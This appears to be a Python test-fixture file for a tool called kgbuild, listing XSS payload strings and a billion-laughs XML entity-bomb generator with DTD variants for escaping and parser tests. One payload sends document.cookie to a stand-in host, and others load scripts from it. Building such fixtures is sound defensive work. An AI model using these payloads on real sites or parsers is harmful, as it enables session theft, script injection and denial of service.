"""Hostile strings for escaping tests: each would run script, load from the network or
restyle the page if kgbuild pasted it into HTML, a script block, a URL or an IRI unescaped.

Payloads that run code call `alert`/`confirm`/`prompt` (a dialog the browser test sees) or
set `__pwned` on the window (checked after the page was used).
"""

XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<script>window.__pwned = 2</script>",
    "<SCRIPT SRC=http://xss.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>",
    "<script>fetch('http://xss.example/?c=' + document.cookie)</script>",
    "<svg><script>alert(6)</script></svg>",
    # event handlers
    "<img src=x onerror=alert(7)>",
    '<img src="x" onerror="window.__pwned = 8">',
    "<img src=`x`onerror=alert(9)>",
    "<img src=x:alert(10) onerror=eval(src)>",
    "<svg onload=alert(11)>",
    "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
    "<body onload=alert(13)>",
    "<details open ontoggle=alert(14)>",
    "<input autofocus onfocus=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=x onerror=alert(17)>",
    "<marquee onstart=alert(18)>x</marquee>",
    "<xss onmouseover=alert(19) style=display:block;position:fixed;inset:0>hover</xss>",
    "' onmouseover='alert(20)' x='",
    '" autofocus onfocus="alert(21)" x="',
    "<img src=x onerror=\\u0061lert(22)>",
    # javascript: and data: URLs
    "javascript:alert(23)",
    "JaVaScRiPt:confirm(24)",
    " javascript:prompt(25)",
    "<a href=\"javascript:alert(26)\">click</a>",
    "<iframe src=\"javascript:alert(27)\"></iframe>",
    "<object data=\"javascript:alert(28)\"></object>",
    "<embed src=\"javascript:alert(29)\">",
    "<form action=\"javascript:alert(30)\"><button autofocus>go</button></form>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgzMSk8L3NjcmlwdD4=\">x</a>",
    "data:text/html,<script>alert(32)</script>",
    # frames, templates, styles, page-wide tags
    "<iframe srcdoc=\"<script>parent.__pwned = 33</script>\"></iframe>",
    "<template><img src=x onerror=alert(34)></template>",
    "<style>@import 'http://xss.example/x.css';</style>",
    "<style>body{background:url(\"http://xss.example/bg.png\")}</style>",
    "<div style=\"background:url(javascript:alert(37))\">x</div>",
    "<link rel=stylesheet href=http://xss.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(39)\">",
    "<base href=\"http://xss.example/\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(41)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(42)>\">",
    # breaking out of where the text is put
    "\"><script>alert(43)</script>",
    "'><img src=x onerror=alert(44)>",
    "</script><script>alert(45)</script>",
    "</script><!--",
    "<!--<img src=x onerror=alert(47)>-->",
    "--><script>alert(48)</script>",
    "</textarea><script>alert(49)</script>",
    "</title><script>alert(50)</script>",
    "</style><script>alert(51)</script>",
    "<![CDATA[<script>alert(52)</script>]]>",
    # JSON in HTML, template engines and escapes
    "\"};alert(53);//",
    "\\\";alert(54);//",
    "\u2028alert(55)\u2029",
    "${alert(56)} ${title} ${page_css} $summary",
    "{{constructor.constructor('alert(57)')()}}",
    "\\u003cscript\\u003ealert(58)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(59)\\x3c/script\\x3e",
    "&lt;script&gt;alert(60)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(61)&#62;",
    "%3Cscript%3Ealert(62)%3C/script%3E",
    "\u202e<script>alert(63)</script>\u202c",
    "\ufeff<img src=x onerror=alert(64)>\u200b",
]


def billion_laughs(levels: int = 9) -> str:
    """RDF/XML whose one label expands to 10 ** levels "lol"s (a 3 GB string for 9) when a
    parser expands the entities its DTD declares; the file itself is under 1 kB."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels + 1)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n ' + "\n ".join(entities) + "\n]>\n"
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
            'xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">\n'
            f' <rdf:Description rdf:about="https://example.org/lol"><rdfs:label>&lol{levels};</rdfs:label>'
            "</rdf:Description>\n</rdf:RDF>\n")


#: The same entity hidden by case, spacing and a later position in the file (a parser may
#: accept some of these; none is let through).
DTD_VARIANTS = [
    billion_laughs(),
    billion_laughs().replace("<!DOCTYPE", "<!doctype"),
    billion_laughs().replace("<!DOCTYPE", "<! DOCTYPE"),
    "\ufeff" + billion_laughs(),
    billion_laughs().replace('<?xml version="1.0"?>\n', '<?xml version="1.0"?>\n<!-- ' + "x" * 2_000_000 + " -->\n"),
]
